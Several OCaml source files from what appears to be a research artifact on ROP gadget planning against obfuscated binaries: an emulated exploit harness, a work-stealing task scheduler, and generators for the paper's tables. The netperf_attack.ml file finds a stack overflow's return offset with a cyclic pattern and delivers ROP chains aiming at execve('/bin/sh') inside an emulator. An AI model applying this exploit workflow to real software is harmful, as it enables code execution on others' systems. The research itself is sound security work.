      r_resumed = !resumed;
      r_retries = !retries;
      r_failed = List.rev !failed } )
