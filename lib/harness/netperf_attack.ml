(* The netperf case study (paper §VI-C, Fig. 8): exploit the break_args
   stack overflow END TO END.

   1. PROBE: feed a marker pattern through the vulnerable copy and watch
      where the program crashes — this recovers both how many words of
      filler reach the saved return address, and that cell's absolute
      address (classic cyclic-pattern exploitation practice).
   2. PLAN: point the payload layout at the probed address and run
      Gadget-Planner over the binary.
   3. FIRE: write [length; filler...; payload...] into the option-argument
      area and run the program from _start.  Success = the emulator halts
      in the goal syscall with the goal arguments. *)

let marker_tag = 0x6d61726b00000000L   (* "mark" *)

type probe = {
  filler_words : int;     (* words copied before the return-address cell *)
  ret_cell : int64;       (* absolute address of the smashed cell *)
}

let write_input m (words : int64 list) =
  List.iteri
    (fun i w ->
      Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
        (Int64.add Gp_corpus.Netperf.input_area (Int64.of_int (8 * i)))
        w)
    words

let probe ?(fuel = 10_000_000) (image : Gp_util.Image.t) : probe option =
  let m = Gp_emu.Machine.create image in
  let n = 64 in
  write_input m
    (Int64.of_int n
    :: List.init n (fun i -> Int64.logor marker_tag (Int64.of_int i)));
  match Gp_emu.Machine.run ~fuel m with
  | Gp_emu.Machine.Fault _ ->
    let rip = m.Gp_emu.Machine.rip in
    if Int64.logand rip 0xffffffff00000000L = marker_tag then
      Some
        { filler_words = Int64.to_int (Int64.logand rip 0xffffffffL);
          (* the faulting ret has already popped the cell *)
          ret_cell = Int64.sub (Gp_emu.Machine.rsp m) 8L }
    else None
  | _ -> None

type result = {
  probe : probe;
  chains : Gp_core.Payload.chain list;   (* end-to-end confirmed *)
  attempted : int;
  fire_timeouts : int;    (* deliveries that ran out of fuel — budget
                             starvation, not refuted chains *)
}

(* Deliver one chain through the vulnerability, returning the raw
   outcome so callers can tell refuted chains (Fault/Exited) from fuel
   starvation (Timeout). *)
let fire_run ?(fuel = 20_000_000) (image : Gp_util.Image.t) (pr : probe)
    (c : Gp_core.Payload.chain) : Gp_emu.Machine.outcome =
  let m = Gp_emu.Machine.create image in
  let payload = Array.to_list c.Gp_core.Payload.c_payload in
  let words =
    Int64.of_int (pr.filler_words + List.length payload)
    :: List.init pr.filler_words (fun _ -> 0x4242424242424242L)
    @ payload
  in
  write_input m words;
  Gp_emu.Machine.run ~fuel m

let fire ?fuel image pr (c : Gp_core.Payload.chain) : bool =
  Gp_core.Goal.satisfied c.Gp_core.Payload.c_goal (fire_run ?fuel image pr c)

let run ?(planner_config = Workspace.gp_planner_config)
    ?(goal = Gp_core.Goal.Execve "/bin/sh") ?budget (b : Workspace.built) :
    result option =
  let budget = match budget with Some b -> b | None -> Gp_core.Budget.unlimited () in
  match
    probe ~fuel:(Gp_core.Budget.emu_fuel ~cap:10_000_000 budget)
      b.Workspace.image
  with
  | None -> None
  | Some pr ->
    let finally () = Gp_core.Layout.reset () in
    Fun.protect ~finally (fun () ->
        Gp_core.Layout.set_payload_base pr.ret_cell;
        let o =
          Gp_core.Api.run_with_analysis ~planner_config ~budget
            b.Workspace.analysis goal
        in
        (* Delivery runs under the corpus runner's retry policy: a
           Timeout is fuel starvation (transient — classified through
           the same [Fail] taxonomy the sweeps use), so the chain is
           redelivered with doubled fuel up to the attempt cap;
           Fault/Exited refute the chain outright (permanent, no
           retry).  Zero base delay — the "backoff" here is the fuel
           escalation, not wall-clock waiting. *)
        let delivery_policy =
          { Runner.default_policy with
            max_attempts = 3;
            base_delay_s = 0.;
            jitter = 0. }
        in
        let timeouts = ref 0 in
        let confirmed =
          List.filter
            (fun c ->
              let key = Gp_core.Payload.chain_set_key c in
              let outcome, _retries =
                Runner.run_cell ~policy:delivery_policy ~key
                  (fun ~attempt _watchdog ->
                    let fuel =
                      Gp_core.Budget.emu_fuel
                        ~cap:(20_000_000 * (1 lsl (attempt - 1)))
                        budget
                    in
                    match fire_run ~fuel b.Workspace.image pr c with
                    | o when Gp_core.Goal.satisfied c.Gp_core.Payload.c_goal o
                      -> Ok true
                    | Gp_emu.Machine.Timeout ->
                      Error
                        (Gp_core.Fail.Budget_exhausted ("netperf-fire", `Fuel))
                    | _ -> Ok false)
              in
              match outcome with
              | Ok sat -> sat
              | Error _ ->
                (* still starving after every retry *)
                incr timeouts;
                false)
            o.Gp_core.Api.chains
        in
        Some
          { probe = pr;
            chains = confirmed;
            attempted = List.length o.Gp_core.Api.chains;
            fire_timeouts = !timeouts })
