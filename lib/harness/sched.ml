(* Corpus-level pipelined scheduler (DESIGN.md §14).

   A survey sweep is a product of (program x config) CELLS, each a
   four-stage pipeline.  [Par] parallelizes within one stage of one
   cell, but the sweep itself was a sequential cell loop: extract-heavy
   cells left the solver domains idle and solver-heavy cells left the
   decoder idle.  This module schedules the whole corpus as a task DAG
   — nodes are (cell x stage) units of work, edges are the stage order
   within a cell — executed by one shared domain pool with per-worker
   deques and work stealing, so stage 3 of cell A overlaps stage 1 of
   cell B instead of fencing at every stage boundary.

   Determinism contract: the scheduler moves WHEN work runs, never what
   it computes.  Each cell draws gadget ids from its own local source,
   compiles are pure functions of (source, config) (Obf.apply resets
   the pass counters), and every cross-cell shared table — the [Incr]
   summary table, the solver memos — is first-write-wins over
   content-addressed keys whose values are deterministic, so a hit
   returns the same bytes whichever cell populated the entry.  Cell
   payloads are therefore bit-identical at any job count, including
   jobs = 1 and the legacy sequential loop ([Runner.run_corpus]).

   [Faultsim.Crashed] is never caught: simulated process death aborts
   the pool (workers stop claiming, every domain is joined) and then
   unwinds out of [run], exactly like the sequential sweep. *)

open Gp_core

(* ----- work-stealing deque ----- *)

(* Owner pushes and pops at the BOTTOM (newest first: LIFO keeps a
   cell's next stage hot on the worker that just produced its input);
   thieves steal from the TOP (oldest first: FIFO steals the work the
   owner would get to last, typically another cell's opening stage).
   Mutex-guarded list, head = bottom: node counts are small (cells x
   stages), so O(n) steal never shows up next to stage runtimes. *)
module Deque = struct
  type 'a t = { m : Mutex.t; mutable items : 'a list }

  let create () = { m = Mutex.create (); items = [] }
  let push d x = Mutex.protect d.m (fun () -> d.items <- x :: d.items)

  let pop d =
    Mutex.protect d.m (fun () ->
        match d.items with
        | [] -> None
        | x :: tl ->
          d.items <- tl;
          Some x)

  let steal d =
    Mutex.protect d.m (fun () ->
        match d.items with
        | [] -> None
        | [ x ] ->
          d.items <- [];
          Some x
        | items ->
          let rec split acc = function
            | [ oldest ] -> (List.rev acc, oldest)
            | x :: tl -> split (x :: acc) tl
            | [] -> assert false
          in
          let rest, oldest = split [] items in
          d.items <- rest;
          Some oldest)

  let length d = Mutex.protect d.m (fun () -> List.length d.items)
end

(* ----- task DAG ----- *)

module Dag = struct
  type state = Waiting | Ready | Done

  type node = {
    n_id : int;
    n_label : string;
    n_fn : unit -> unit;
    mutable n_deps : int;       (* unfinished predecessors *)
    mutable n_succs : int list; (* reverse creation order *)
    mutable n_state : state;
  }

  (* Live only while [run] is active: the deques and the domain ->
     worker-index map, so [node] called from inside a running node can
     hand a ready task to the creating worker's own deque. *)
  type run_state = {
    rs_deques : int Deque.t array;
    rs_m : Mutex.t;
    rs_assign : (int, int) Hashtbl.t; (* Domain id -> worker index *)
  }

  type t = {
    g_m : Mutex.t; (* guards g_nodes, g_next, g_failed, node fields *)
    g_nodes : (int, node) Hashtbl.t;
    mutable g_next : int;
    g_outstanding : int Atomic.t; (* nodes not yet Done *)
    g_abort : bool Atomic.t;
    mutable g_failed : (int * exn) list;
    mutable g_run : run_state option;
  }

  let create () =
    { g_m = Mutex.create ();
      g_nodes = Hashtbl.create 64;
      g_next = 0;
      g_outstanding = Atomic.make 0;
      g_abort = Atomic.make false;
      g_failed = [];
      g_run = None }

  let node_count t = Mutex.protect t.g_m (fun () -> Hashtbl.length t.g_nodes)

  let worker_index rs =
    Mutex.protect rs.rs_m (fun () ->
        match Hashtbl.find_opt rs.rs_assign (Domain.self () :> int) with
        | Some w -> w
        | None -> 0)

  (* Add a node.  [after] may only name EXISTING node ids, so the graph
     is acyclic by construction — an edge always points from an earlier
     creation to a later one.  Calling this from inside a running node
     is the supported way to grow the graph dynamically (the cell
     pipeline chains each stage as it learns the next); a node created
     ready during a run goes straight onto the creating worker's deque,
     where owner-LIFO order runs it next. *)
  let node t ?(after = []) ?(label = "") (fn : unit -> unit) : int =
    let id, ready_now =
      Mutex.protect t.g_m (fun () ->
          let id = t.g_next in
          t.g_next <- t.g_next + 1;
          let deps =
            List.fold_left
              (fun acc p ->
                match Hashtbl.find_opt t.g_nodes p with
                | Some pn when pn.n_state <> Done ->
                  pn.n_succs <- id :: pn.n_succs;
                  acc + 1
                | Some _ -> acc
                | None -> invalid_arg "Sched.Dag.node: unknown predecessor")
              0 after
          in
          let n =
            { n_id = id;
              n_label = label;
              n_fn = fn;
              n_deps = deps;
              n_succs = [];
              n_state = (if deps = 0 then Ready else Waiting) }
          in
          Hashtbl.replace t.g_nodes id n;
          Atomic.incr t.g_outstanding;
          (id, n.n_state = Ready))
    in
    (match t.g_run with
    | Some rs when ready_now ->
      Deque.push rs.rs_deques.(worker_index rs) id
    | _ -> ());
    id

  let label t id =
    Mutex.protect t.g_m (fun () ->
        match Hashtbl.find_opt t.g_nodes id with
        | Some n -> n.n_label
        | None -> "")

  (* Mark [id] done and ready its unblocked successors onto worker
     [w]'s deque (locality: the finishing worker just built their
     input).  The outstanding counter is decremented LAST so it can
     only reach zero when no successor is still being readied. *)
  let complete t rs w id =
    let ready =
      Mutex.protect t.g_m (fun () ->
          let n = Hashtbl.find t.g_nodes id in
          n.n_state <- Done;
          List.filter_map
            (fun sid ->
              let sn = Hashtbl.find t.g_nodes sid in
              sn.n_deps <- sn.n_deps - 1;
              if sn.n_deps = 0 && sn.n_state = Waiting then begin
                sn.n_state <- Ready;
                Some sid
              end
              else None)
            (List.rev n.n_succs))
    in
    List.iter (fun sid -> Deque.push rs.rs_deques.(w) sid) ready;
    Atomic.decr t.g_outstanding

  (* One worker: drain own deque bottom-first, then steal round-robin
     from the others top-first.  When the graph is busy but nothing is
     claimable (a predecessor is mid-run on another domain), spin
     briefly, then back off into short sleeps: a sleeping domain sits
     in a blocking section — GC-safe and off the core — so on an
     oversubscribed host the workers that HAVE work get the
     timeslices instead of idle ones burning them.  Exit when every
     node is done or a sibling aborted. *)
  let rec worker t rs w ~idle =
    if Atomic.get t.g_abort then ()
    else begin
      let task =
        match Deque.pop rs.rs_deques.(w) with
        | Some id -> Some id
        | None ->
          let jobs = Array.length rs.rs_deques in
          let rec scan k =
            if k >= jobs then None
            else
              match Deque.steal rs.rs_deques.((w + k) mod jobs) with
              | Some id -> Some id
              | None -> scan (k + 1)
          in
          scan 1
      in
      match task with
      | Some id ->
        let n = Mutex.protect t.g_m (fun () -> Hashtbl.find t.g_nodes id) in
        (match n.n_fn () with
        | () -> complete t rs w id
        | exception e ->
          Mutex.protect t.g_m (fun () ->
              t.g_failed <- (id, e) :: t.g_failed);
          Atomic.set t.g_abort true);
        worker t rs w ~idle:0
      | None ->
        if Atomic.get t.g_outstanding = 0 then ()
        else begin
          if idle < 100 then Domain.cpu_relax ()
          else Unix.sleepf (Float.min 0.002 (0.0001 *. float_of_int (idle - 99)));
          worker t rs w ~idle:(idle + 1)
        end
    end

  (* Execute until every node is done or a node fails.  [jobs] is the
     worker count (the calling domain is worker 0) and is deliberately
     NOT clamped to the core count: correctness may not depend on
     real parallelism, so oversubscribed workers — timesliced by the
     OS — must produce the same results, and tests exercise exactly
     that.  On failure: stop claiming work, join every domain, then
     re-raise the exception of the lowest-numbered failed node
     (deterministic whichever worker hit it first). *)
  let run ?(jobs = 1) t =
    let jobs = max 1 jobs in
    let rs =
      { rs_deques = Array.init jobs (fun _ -> Deque.create ());
        rs_m = Mutex.create ();
        rs_assign = Hashtbl.create 8 }
    in
    (* Seed: distribute the initially ready nodes round-robin in id
       order, each deque's batch pushed in reverse so the owner pops
       its lowest id first. *)
    let ready0 =
      Mutex.protect t.g_m (fun () ->
          Hashtbl.fold
            (fun id n acc -> if n.n_state = Ready then id :: acc else acc)
            t.g_nodes []
          |> List.sort compare)
    in
    let batches = Array.make jobs [] in
    List.iteri
      (fun i id -> batches.(i mod jobs) <- id :: batches.(i mod jobs))
      ready0;
    Array.iteri
      (fun w batch -> List.iter (fun id -> Deque.push rs.rs_deques.(w) id) batch)
      batches;
    t.g_run <- Some rs;
    let register w =
      Mutex.protect rs.rs_m (fun () ->
          Hashtbl.replace rs.rs_assign (Domain.self () :> int) w)
    in
    (* Same hardening as Par.run: keep every successful spawn, always
       join every domain, degrade to fewer workers if a spawn fails. *)
    let spawned = ref [] in
    (try
       for w = 1 to jobs - 1 do
         spawned :=
           Domain.spawn (fun () ->
               register w;
               worker t rs w ~idle:0)
           :: !spawned
       done
     with _ -> ());
    register 0;
    let caller_exn = (try worker t rs 0 ~idle:0; None with e -> Some e) in
    let join_exns =
      List.filter_map
        (fun d -> try Domain.join d; None with e -> Some e)
        !spawned
    in
    t.g_run <- None;
    let failed =
      Mutex.protect t.g_m (fun () -> List.sort compare t.g_failed)
    in
    match failed with
    | (_, e) :: _ -> raise e
    | [] -> (
      match caller_exn with
      | Some e -> raise e
      | None -> (match join_exns with e :: _ -> raise e | [] -> ()))
end

(* ----- persistent worker pool: the daemon's execution substrate ----- *)

(* [Dag.run] is a batch construct: workers exit when the outstanding
   count hits zero, which for a daemon is just "between requests".
   [Service] keeps the same deques, stealing discipline and idle
   backoff, but workers park until an explicit [stop] — the resident
   pool requests are dispatched onto (DESIGN.md §15).

   Failure discipline differs from the batch DAG on purpose: a request
   handler owns its errors (it catches everything and turns it into an
   error response — one poisoned request must not kill the daemon), so
   any exception that still reaches a worker is by definition fatal to
   the process ([Faultsim.Crashed], or a handler bug).  The first one
   is kept, the pool stops, and [check]/[stop] re-raise it on the
   daemon's main loop — where the journal teardown lives, exactly like
   a crashed sweep. *)
module Service = struct
  type t = {
    sv_deques : (unit -> unit) Deque.t array;
    sv_m : Mutex.t;
    sv_assign : (int, int) Hashtbl.t; (* Domain id -> worker index *)
    sv_stop : bool Atomic.t;
    sv_fatal : exn option Atomic.t;   (* first fatal exception, kept *)
    sv_pending : int Atomic.t;        (* submitted, not yet finished *)
    sv_rr : int Atomic.t;             (* round-robin for outside submits *)
    mutable sv_domains : unit Domain.t list;
  }

  let jobs sv = Array.length sv.sv_deques
  let pending sv = Atomic.get sv.sv_pending

  let worker_index_opt sv =
    Mutex.protect sv.sv_m (fun () ->
        Hashtbl.find_opt sv.sv_assign (Domain.self () :> int))

  (* Queue one task.  From a worker domain it lands on that worker's
     own deque (owner-LIFO keeps a request's next stage hot, thieves
     take other requests' opening stages from the top — the same
     pipelining as [Dag.node] during a run); from any other domain
     (the daemon's accept loop) tasks are spread round-robin. *)
  let submit sv (fn : unit -> unit) =
    Atomic.incr sv.sv_pending;
    let w =
      match worker_index_opt sv with
      | Some w -> w
      | None -> Atomic.fetch_and_add sv.sv_rr 1 mod jobs sv
    in
    Deque.push sv.sv_deques.(w) fn

  let fatal sv e =
    ignore (Atomic.compare_and_set sv.sv_fatal None (Some e));
    Atomic.set sv.sv_stop true

  let rec worker sv w ~idle =
    if Atomic.get sv.sv_fatal <> None then ()
    else begin
      let task =
        match Deque.pop sv.sv_deques.(w) with
        | Some fn -> Some fn
        | None ->
          let jobs = Array.length sv.sv_deques in
          let rec scan k =
            if k >= jobs then None
            else
              match Deque.steal sv.sv_deques.((w + k) mod jobs) with
              | Some fn -> Some fn
              | None -> scan (k + 1)
          in
          scan 1
      in
      match task with
      | Some fn ->
        (match fn () with
        | () -> ()
        | exception e -> fatal sv e);
        Atomic.decr sv.sv_pending;
        worker sv w ~idle:0
      | None ->
        if Atomic.get sv.sv_stop && Atomic.get sv.sv_pending = 0 then ()
        else begin
          (* same spin-then-sleep backoff as [Dag.worker]: parked
             daemon workers must not burn the cores the active ones
             need *)
          if idle < 100 then Domain.cpu_relax ()
          else Unix.sleepf (Float.min 0.002 (0.0001 *. float_of_int (idle - 99)));
          worker sv w ~idle:(idle + 1)
        end
    end

  let start ~jobs:n =
    let n = max 1 n in
    let sv =
      { sv_deques = Array.init n (fun _ -> Deque.create ());
        sv_m = Mutex.create ();
        sv_assign = Hashtbl.create 8;
        sv_stop = Atomic.make false;
        sv_fatal = Atomic.make None;
        sv_pending = Atomic.make 0;
        sv_rr = Atomic.make 0;
        sv_domains = [] }
    in
    (* Unlike [Dag.run] the caller is NOT a worker: the daemon's main
       domain stays in its accept/select loop.  Same spawn hardening —
       keep every successful spawn, degrade to fewer workers. *)
    (try
       for w = 0 to n - 1 do
         sv.sv_domains <-
           Domain.spawn (fun () ->
               Mutex.protect sv.sv_m (fun () ->
                   Hashtbl.replace sv.sv_assign (Domain.self () :> int) w);
               worker sv w ~idle:0)
           :: sv.sv_domains
       done
     with _ -> ());
    sv

  let check sv =
    match Atomic.get sv.sv_fatal with Some e -> raise e | None -> ()

  (* Drain and join.  Queued work still runs (a shutdown request must
     not drop in-flight analyses) unless a fatal exception already
     stopped the pool; the fatal exception, if any, is re-raised after
     every domain is joined. *)
  let stop sv =
    Atomic.set sv.sv_stop true;
    List.iter
      (fun d -> try Domain.join d with e -> fatal sv e)
      sv.sv_domains;
    sv.sv_domains <- [];
    check sv
end

(* ----- staged cells: the corpus pipeline on the DAG ----- *)

(* A cell's work as a chain of resumable steps.  Each [Next] becomes
   its own DAG node, so the scheduler can interleave one cell's plan
   stage with another's extract stage on the shared pool. *)
type 'a step =
  | Finished of ('a, Fail.t) result
  | Next of string * (unit -> 'a step)

let watchdog (policy : Runner.retry_policy) key =
  match policy.attempt_seconds with
  | Some s -> Budget.create ~label:("cell:" ^ key) ~seconds:s ()
  | None -> Budget.unlimited ~label:("cell:" ^ key) ()

(* [Runner.run_corpus] semantics on the DAG: same resume replay, same
   per-attempt watchdog budgets, same transient/permanent retry ladder
   with the same deterministic backoff schedule, same
   manifest-record-then-journal-checkpoint commit (serialized under one
   mutex so concurrent cells' WAL appends never interleave a commit).
   A retried cell restarts from its FIRST stage with a fresh watchdog,
   exactly like the sequential runner. *)
let run_cells ?(policy = Runner.default_policy) ?manifest ?(resume = false)
    ~(encode : 'a -> string) ~(decode : string -> 'a) ~jobs
    (cells : (string * (attempt:int -> Budget.t -> 'a step)) list) :
    'a Runner.cell_outcome list * Runner.report =
  let n = List.length cells in
  let outcomes : 'a Runner.cell_outcome option array = Array.make n None in
  let commit_m = Mutex.create () in
  let dag = Dag.create () in
  let commit key v =
    Mutex.protect commit_m (fun () ->
        (match manifest with
        | Some m -> Runner.Manifest.record m ~key ~payload:(encode v)
        | None -> ());
        if Incr.journaling () then ignore (Incr.journal_checkpoint ()))
  in
  (* All of [step_run] executes INSIDE a node fn on some worker; each
     [Next] continuation becomes a fresh ready node on that worker's
     deque, where owner-LIFO order keeps the cell flowing while thieves
     take other cells' opening stages from the top. *)
  let rec step_run idx key sc ~attempt b (thunk : unit -> 'a step) =
    let step =
      match thunk () with
      | s -> s
      | exception Budget.Exhausted (label, reason) ->
        (* the attempt watchdog fired past a stage boundary: transient,
           like the sequential runner *)
        Finished
          (Error
             (Fail.Budget_exhausted
                ( label,
                  match reason with
                  | Budget.Deadline -> `Time
                  | Budget.Fuel -> `Fuel )))
    in
    match step with
    | Next (stage, k) ->
      ignore
        (Dag.node dag ~label:(key ^ "/" ^ stage) (fun () ->
             step_run idx key sc ~attempt b k))
    | Finished (Ok v) ->
      commit key v;
      outcomes.(idx) <-
        Some
          { Runner.c_key = key; c_result = Ok v; c_retries = attempt - 1;
            c_resumed = false }
    | Finished (Error f) ->
      if Fail.retryable f && attempt < policy.Runner.max_attempts then
        attempt_node idx key sc ~attempt:(attempt + 1)
      else
        outcomes.(idx) <-
          Some
            { Runner.c_key = key; c_result = Error f;
              c_retries = attempt - 1; c_resumed = false }
  and attempt_node idx key sc ~attempt =
    ignore
      (Dag.node dag ~label:(Printf.sprintf "%s#%d" key attempt) (fun () ->
           (* the backoff sleep for the PREVIOUS attempt's failure,
              then a fresh watchdog whose clock starts now — when the
              attempt actually begins, not when it was scheduled *)
           if attempt > 1 then
             !Runner.sleep_hook
               (Runner.backoff_delay policy ~key ~attempt:(attempt - 1));
           let b = watchdog policy key in
           step_run idx key sc ~attempt b (fun () -> sc ~attempt b)))
  in
  List.iteri
    (fun idx (key, sc) ->
      let replay =
        if resume then
          match manifest with
          | Some m -> (
            match Runner.Manifest.find m key with
            | Some e -> Some e.Runner.Manifest.e_payload
            | None -> None)
          | None -> None
        else None
      in
      match replay with
      | Some payload ->
        outcomes.(idx) <-
          Some
            { Runner.c_key = key; c_result = Ok (decode payload);
              c_retries = 0; c_resumed = true }
      | None -> attempt_node idx key sc ~attempt:1)
    cells;
  Dag.run ~jobs dag;
  let outcomes =
    Array.to_list
      (Array.map
         (function
           | Some o -> o
           | None ->
             (* unreachable: every non-replayed chain ends by writing
                its slot, and Dag.run re-raises on any failed node *)
             assert false)
         outcomes)
  in
  let computed =
    List.length
      (List.filter
         (fun o ->
           (not o.Runner.c_resumed) && Result.is_ok o.Runner.c_result)
         outcomes)
  in
  let resumed = List.length (List.filter (fun o -> o.Runner.c_resumed) outcomes) in
  let retries =
    List.fold_left (fun acc o -> acc + o.Runner.c_retries) 0 outcomes
  in
  let failed =
    List.filter_map
      (fun o ->
        match o.Runner.c_result with
        | Error f -> Some (o.Runner.c_key, f)
        | Ok _ -> None)
      outcomes
  in
  ( outcomes,
    { Runner.r_total = n;
      r_computed = computed;
      r_resumed = resumed;
      r_retries = retries;
      r_failed = failed } )
