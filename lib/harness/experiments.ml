(* The paper's evaluation, experiment by experiment (DESIGN.md §4).

   Every function regenerates one table or figure and returns the
   rendered text (plus structured data where tests consume it).  [quick]
   mode runs a representative subset of the corpus so the whole suite
   finishes in a few minutes; full mode runs everything. *)

let quick_benchmark_names =
  [ "bubble_sort"; "crc_check"; "fibonacci"; "stack_machine" ]

(* Smoke mode (`bench --quick`): collapse the survey to a single
   program under a single obfuscation config so `make check` can assert
   the whole harness still runs end-to-end without the survey cost. *)
let smoke_mode = ref false
let set_smoke b = smoke_mode := b

(* Smoke runs exercise every experiment end to end — including the JSON
   writers — but must not overwrite the checked-in full-survey
   artifacts; their output goes to the temp directory instead. *)
let out_path name =
  if !smoke_mode then Filename.concat (Filename.get_temp_dir_name ()) name
  else name

let benchmark_entries ~quick =
  if !smoke_mode then [ Gp_corpus.Programs.find "fibonacci" ]
  else if quick then List.map Gp_corpus.Programs.find quick_benchmark_names
  else Gp_corpus.Programs.all

(* ---------- the survey grid ---------- *)

(* Every experiment below walks the same grid: benchmark entries crossed
   with the obfuscation configs.  These helpers name that product once
   instead of each experiment re-spelling the double loop.
   [survey_cells] is the flat enumeration, entry-major unless
   [config_major] (the sweep order of the store experiments, originals
   first); [survey_by_program] / [survey_by_config] keep the grouping
   the table experiments print.  [configs] and [entries] override the
   grid's axes where an experiment needs a subset. *)

let survey_configs () =
  if !smoke_mode then [ ("llvm-obf", Gp_obf.Obf.ollvm) ]
  else Workspace.obf_configs

let survey_entries ?entries ~quick () =
  match entries with Some e -> e | None -> benchmark_entries ~quick

let survey_cells ?(config_major = false) ?configs ?entries ?(quick = true) f =
  let configs =
    match configs with Some c -> c | None -> survey_configs ()
  in
  let entries = survey_entries ?entries ~quick () in
  if config_major then
    List.concat_map
      (fun (cname, cfg) -> List.map (fun e -> f e cname cfg) entries)
      configs
  else
    List.concat_map
      (fun e -> List.map (fun (cname, cfg) -> f e cname cfg) configs)
      entries

let survey_by_program ?configs ?entries ?(quick = true) f =
  let configs =
    match configs with Some c -> c | None -> survey_configs ()
  in
  List.map
    (fun e -> (e, List.map (fun (cname, cfg) -> f e cname cfg) configs))
    (survey_entries ?entries ~quick ())

let survey_by_config ?configs ?entries ?(quick = true) f =
  let configs =
    match configs with Some c -> c | None -> survey_configs ()
  in
  let entries = survey_entries ?entries ~quick () in
  List.map
    (fun (cname, cfg) -> (cname, List.map (fun e -> f e cname cfg) entries))
    configs

(* ---------- Fig. 1: gadget counts, original vs obfuscated ---------- *)

type fig1_row = {
  f1_program : string;
  f1_counts : (string * int) list;   (* config -> raw gadget count *)
}

let fig1 ?(quick = true) () =
  let rows =
    List.map
      (fun (entry, counts) ->
        { f1_program = entry.Gp_corpus.Programs.name; f1_counts = counts })
      (survey_by_program ~quick (fun entry cname cfg ->
           let image =
             Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
               entry.Gp_corpus.Programs.source
           in
           (cname, List.length (Gp_core.Extract.raw_scan image))))
  in
  let t =
    Table.create ~title:"Fig. 1: number of gadgets, original vs obfuscated"
      ~header:("program" :: List.map fst (survey_configs ()))
  in
  List.iter
    (fun r ->
      Table.add_row t
        (r.f1_program :: List.map (fun (_, c) -> string_of_int c) r.f1_counts))
    rows;
  (Table.render t, rows)

(* ---------- Table I: gadget types and increase rate ---------- *)

let tab1 ?(quick = true) () =
  let kinds =
    [ (Gp_core.Gadget.Return, "Return");
      (Gp_core.Gadget.UDJ, "UDJ");
      (Gp_core.Gadget.UIJ, "UIJ");
      (Gp_core.Gadget.CDJ, "CDJ");
      (Gp_core.Gadget.CIJ, "CIJ") ]
  in
  let totals config_filter =
    List.fold_left
      (fun acc entry ->
        let cname, cfg = config_filter in
        ignore cname;
        let image =
          Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source
        in
        let counts = Gp_core.Extract.raw_counts image in
        List.map2 (fun (k, _) a -> a + List.assoc k counts) kinds acc)
      (List.map (fun _ -> 0) kinds)
      (benchmark_entries ~quick)
  in
  let original = totals ("original", Gp_obf.Obf.none) in
  let ollvm = totals ("llvm-obf", Gp_obf.Obf.ollvm) in
  let tigress = totals ("tigress", Gp_obf.Obf.tigress) in
  (* "Obfuscated" column: mean of the two obfuscators, as the paper
     aggregates across tools *)
  let obfuscated = List.map2 (fun a b -> (a + b) / 2) ollvm tigress in
  let t =
    Table.create ~title:"Table I: gadget types, original vs obfuscated"
      ~header:[ "type"; "original"; "obfuscated"; "increase" ]
  in
  let data =
    List.map2 (fun (k, name) (o, ob) -> (k, name, o, ob))
      kinds
      (List.combine original obfuscated)
  in
  List.iter
    (fun (_, name, o, ob) ->
      let rate =
        if o = 0 then "-"
        else Printf.sprintf "%.1f%%" (100. *. float_of_int (ob - o) /. float_of_int o)
      in
      Table.add_row t [ name; string_of_int o; string_of_int ob; rate ])
    data;
  (Table.render t, data)

(* ---------- shared tool runners ---------- *)

type tool_result = {
  tr_tool : string;
  tr_pool : int;
  tr_chains : Gp_core.Payload.chain list;
}

let run_tools (b : Workspace.built) goal : tool_result list =
  let pool_list = b.Workspace.analysis.Gp_core.Api.gadgets in
  let rg = Gp_baselines.Ropgadget.run b.Workspace.image goal in
  let ag = Gp_baselines.Angrop.run ~pool:pool_list b.Workspace.image goal in
  let sg = Gp_baselines.Sgc.run ~pool:pool_list b.Workspace.image goal in
  let gp = Workspace.run_gp b goal in
  [ { tr_tool = "ropgadget";
      tr_pool = rg.Gp_baselines.Report.pool_total;
      tr_chains = rg.Gp_baselines.Report.chains };
    { tr_tool = "angrop";
      tr_pool = ag.Gp_baselines.Report.pool_total;
      tr_chains = ag.Gp_baselines.Report.chains };
    { tr_tool = "sgc";
      tr_pool = sg.Gp_baselines.Report.pool_total;
      tr_chains = sg.Gp_baselines.Report.chains };
    { tr_tool = "gadget-planner";
      tr_pool = Gp_core.Pool.size b.Workspace.analysis.Gp_core.Api.pool;
      tr_chains = gp.Gp_core.Api.chains } ]

(* ---------- Fig. 2: chains built by existing tools ---------- *)

let fig2 ?(quick = true) () =
  let tools = [ "ropgadget"; "angrop"; "sgc" ] in
  let t =
    Table.create
      ~title:"Fig. 2: payloads built by EXISTING tools (all goals, summed)"
      ~header:("config" :: tools)
  in
  let data =
    List.map
      (fun (cname, cells) ->
        let count tool =
          List.fold_left
            (fun acc trs ->
              List.fold_left
                (fun acc tr ->
                  if tr.tr_tool = tool then acc + List.length tr.tr_chains
                  else acc)
                acc trs)
            0 cells
        in
        (cname, List.map (fun tool -> (tool, count tool)) tools))
      (survey_by_config ~quick (fun entry cname cfg ->
           let b = Workspace.build ~config_name:cname ~cfg entry in
           List.concat_map (fun goal -> run_tools b goal) Workspace.goals))
  in
  List.iter
    (fun (cname, counts) ->
      Table.add_row t (cname :: List.map (fun (_, c) -> string_of_int c) counts))
    data;
  (Table.render t, data)

(* ---------- Table IV: the main comparison ---------- *)

type tab4_cell = {
  t4_pool : int;
  t4_used : int;
  t4_goals : (string * int) list;   (* goal -> validated payload count *)
  t4_new : int;                     (* payloads using obfuscation-new gadgets *)
}

type tab4_row = { t4_config : string; t4_tools : (string * tab4_cell) list }

let tab4 ?(quick = true) () =
  let entries = benchmark_entries ~quick in
  (* per-program original pool texts, to classify "new" chains *)
  let baseline_texts =
    List.map
      (fun entry ->
        let b = Workspace.build entry in
        (entry.Gp_corpus.Programs.name, Workspace.pool_texts b.Workspace.analysis))
      entries
  in
  let rows =
    List.map
      (fun (cname, cells) ->
        let acc = Hashtbl.create 8 in
        List.iter
          (List.iter (fun (goal, tr, nnew) ->
               let prev =
                 match Hashtbl.find_opt acc tr.tr_tool with
                 | Some v -> v
                 | None ->
                   { t4_pool = 0; t4_used = 0;
                     t4_goals = List.map (fun g -> (Gp_core.Goal.name g, 0)) Workspace.goals;
                     t4_new = 0 }
               in
               let goals =
                 List.map
                   (fun (gn, c) ->
                     if gn = Gp_core.Goal.name goal then
                       (gn, c + List.length tr.tr_chains)
                     else (gn, c))
                   prev.t4_goals
               in
               Hashtbl.replace acc tr.tr_tool
                 { t4_pool = prev.t4_pool + tr.tr_pool;
